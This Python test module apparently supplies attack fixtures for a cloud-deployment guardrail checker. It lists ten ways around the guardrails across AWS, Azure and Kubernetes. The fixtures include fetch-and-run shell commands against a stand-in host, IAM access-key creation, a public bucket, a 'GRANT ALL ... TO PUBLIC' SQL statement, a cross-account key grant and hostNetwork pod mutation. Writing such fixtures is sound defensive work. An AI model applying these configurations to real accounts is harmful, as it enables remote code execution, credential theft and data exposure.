"""Ways around the guardrails that nobody had written down: commands, generic targets, and other deployers (2026-11-27).

Severity stands beside each; the source is the vendor's document that says that the cloud accepts it.
"""

import base64
import json

from ..blind import KEY, ME, TAGS, THEM, aws, az, crd, k8s
from ..harness import Given
from . import Attack

STACK_TEMPLATE = json.dumps({"Resources": {"B": {"Type": "AWS::S3::Bucket", "Properties": {
    "AccessControl": "PublicRead"}}}})  # fmt: skip
TASK = base64.b64encode(
    b"version: v1.1.0\nsteps:\n- cmd: mcr.microsoft.com/azure-cli az group create -l westeurope -n x"
)
CEL = 'JSONPatch{op: "add", path: "/spec/hostNetwork", value: true}'

ATTACKS: tuple[Attack, ...] = (
    Attack(  # critical; EventBridge Scheduler, "Using universal targets": any API call of any service
        "schedule that starts machines through a universal target",
        ("FJ-ESC-102",),
        (aws("scheduler/Schedule", {
            "flexibleTimeWindow": {"mode": "OFF"}, "scheduleExpression": "rate(1 hour)", "kmsKeyArn": KEY, "target": {
                "arn": "arn:aws:scheduler:::aws-sdk:ec2:runInstances", "roleArn": f"arn:aws:iam::{ME}:role/s",
                "input": json.dumps({"ImageId": "ami-1", "InstanceType": "p5.48xlarge", "MinCount": 8,
                                     "MaxCount": 8})}}),),
    ),
    Attack(  # critical; Step Functions, "AWS SDK service integrations": any API call of any service
        "state machine that creates an access key through an SDK integration",
        ("FJ-ESC-102",),
        (aws("sfn/StateMachine", {"name": "x", "roleArn": f"arn:aws:iam::{ME}:role/s", "tags": TAGS,
                                  "encryptionConfiguration": {"kmsKeyId": KEY, "type": "CUSTOMER_MANAGED_KMS_KEY"},
                                  "definition": json.dumps({"StartAt": "A", "States": {"A": {
                                      "Type": "Task", "End": True,
                                      "Resource": "arn:aws:states:::aws-sdk:iam:createAccessKey",
                                      "Parameters": {"UserName": "x"}}}})}),),
    ),
    Attack(  # high; Systems Manager, "AWS-RunShellScript" by an association on each managed machine
        "SSM association that runs a script on each machine",
        ("FJ-ESC-102",),
        (aws("ssm/Association", {"name": "AWS-RunShellScript", "tags": TAGS, "targets": [
            {"key": "InstanceIds", "values": ["*"]}],
            "parameters": {"commands": "curl -s https://example.de/x.sh | sh"}}),),
    ),
    Attack(  # critical; Config, "Custom conformance packs": the body is a template with custom resources
        "conformance pack whose template makes a public bucket",
        ("FJ-ESC-102",),
        (aws("cfg/ConformancePack", {"name": "x", "templateBody": STACK_TEMPLATE}),),
    ),
    Attack(  # high; Redshift Data API, ExecuteStatement: SQL runs as soon as the resource is created
        "Redshift statement that grants everything to everybody",
        ("FJ-ESC-102",),
        (aws("redshiftdata/Statement", {"database": "d", "workgroupName": "w",
                                        "sql": "GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC"}),),
    ),
    Attack(  # critical; Pulumi, aws provider: assumeRoles decides in whose account everything is created
        "provider that creates everything in a stranger's account",
        ("FJ-IDN-116", "FJ-ESC-", "FJ-RES-"),
        (Given("pulumi:providers:aws", {
            "region": "me-central-1", "allowedAccountIds": json.dumps([THEM]),
            "assumeRoles": json.dumps([{"roleArn": f"arn:aws:iam::{THEM}:role/deploy"}])}, "stranger"),
         aws("kms/Grant", {"keyId": "k", "granteePrincipal": f"arn:aws:iam::{THEM}:role/x", "operations": ["Decrypt"]},
             provider={"region": "me-central-1", "allowedAccountIds": json.dumps([THEM])})),
    ),
    Attack(  # high; Virtual Machines, "Custom Script Extension": downloads and runs a script
        "machine extension that downloads and runs a script",
        ("FJ-ESC-102",),
        (az("compute:VirtualMachineExtension", {
            "resourceGroupName": "g", "location": "uaenorth", "tags": TAGS, "vmName": "v", "vmExtensionName": "x",
            "publisher": "Microsoft.Azure.Extensions", "type": "CustomScript", "typeHandlerVersion": "2.1",
            "settings": {"fileUris": ["https://example.de/x.sh"], "commandToExecute": "sh x.sh"}}),),
    ),
    Attack(  # high; Container Registry, "Multi-step tasks": cmd steps run with the task's identity
        "registry task that runs the Azure CLI with an identity",
        ("FJ-ESC-102", "FJ-ESC-109", "FJ-RES-"),
        (az("containerregistry:Task", {
            "resourceGroupName": "g", "registryName": "r", "taskName": "x", "location": "uaenorth", "tags": TAGS,
            "platform": {"os": "Linux"}, "identity": {"type": "SystemAssigned"}, "status": "Enabled",
            "step": {"type": "EncodedTask", "encodedTaskContent": TASK.decode()},
            "trigger": {"timerTriggers": [{"name": "t", "schedule": "0 * * * *"}]}}),),
    ),
    Attack(  # high; Kubernetes, "Mutating admission policy": CEL changes each pod after the guardrails saw it
        "MutatingAdmissionPolicy that puts each pod on the host's network",
        ("FJ-ESC-", "FJ-EXP-"),
        (k8s("admissionregistration.k8s.io/v1beta1:MutatingAdmissionPolicy", {"metadata": {"name": "x"}, "spec": {
            "reinvocationPolicy": "Never", "matchConstraints": {"resourceRules": [{
                "apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}]},
            "mutations": [{"patchType": "JSONPatch", "jsonPatch": {"expression": f"[{CEL}]"}}]}}),),
    ),
    Attack(  # high; Argo Workflows, "Kubernetes resources": a resource template applies any manifest
        "Argo workflow that applies a manifest",
        ("FJ-ESC-103",),
        (crd("argoproj.io/v1alpha1:Workflow", {"entrypoint": "a", "serviceAccountName": "deployer", "templates": [{
            "name": "a", "resource": {"action": "apply", "manifest":
                "apiVersion: v1\nkind: Service\nmetadata: {name: x}\nspec: {type: LoadBalancer}\n"}}]}),),
    ),
)  # fmt: skip
